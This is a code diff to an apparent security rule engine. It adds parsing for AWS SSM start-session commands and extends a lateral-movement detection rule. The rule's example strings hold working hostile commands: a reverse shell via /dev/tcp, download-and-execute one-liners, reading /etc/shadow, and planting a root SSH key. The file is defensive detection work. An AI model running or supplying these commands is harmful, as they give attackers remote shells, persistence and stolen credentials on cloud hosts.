@@ -234,10 +234,12 @@ function unparsedRemote(cmd: SimpleCommand): { tool: string; cmds: Cmd[] } | und
       return a[1] === 'compute' && a[2] === 'ssh' && c ? { tool: 'gcloud compute ssh', cmds: splitScript(c) } : undefined;
     }
     case 'aws': {
-      if (a[1] !== 'ssm' || a[2] !== 'send-command') return undefined;
+      // send-command's `commands=…`, and start-session's `command=…` for the interactive-command document
+      if (a[1] !== 'ssm' || (a[2] !== 'send-command' && a[2] !== 'start-session')) return undefined;
       const p = (after('--parameters') ?? '').slice(0, MAX_SCRIPT);
-      const at = p.indexOf('commands=');
-      return at >= 0 ? { tool: 'aws ssm send-command', cmds: splitScript(ssmCommands(p.slice(at + 9))) } : undefined;
+      const key = a[2] === 'send-command' ? 'commands=' : 'command=';
+      const at = p.indexOf(key);
+      return at >= 0 ? { tool: `aws ssm ${a[2]}`, cmds: splitScript(ssmCommands(p.slice(at + key.length))) } : undefined;
     }
     case 'az': {
       const s = after('--scripts');
@@ -354,7 +356,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
     message: 'Runs a payload on cloud instances through SSM or VM run-command', why: 'Cloud run-command executes as root on instances without SSH; attackers with IAM access use it to spread.',
     check: remotePayload(CLOUD),
-    examples: { fire: [`az vm run-command invoke -g rg -n dc01 --command-id RunPowerShellScript --scripts 'IEX (New-Object Net.WebClient).DownloadString("http://45.33.12.7/a.ps1")'`, "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
+    examples: { fire: [`aws ssm start-session --target i-0f1e --document-name AWS-StartInteractiveCommand --parameters command="sudo bash -c 'bash -i >& /dev/tcp/91.215.85.17/4444 0>&1'"`, `az vm run-command invoke -g rg -n dc01 --command-id RunPowerShellScript --scripts 'IEX (New-Object Net.WebClient).DownloadString("http://45.33.12.7/a.ps1")'`, "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
   },
   {
     id: 'PX-LATERAL-005', name: 'ssh-with-foreign-key', score: 75, tactic: 'lateral_movement', technique: 'T1021.004',
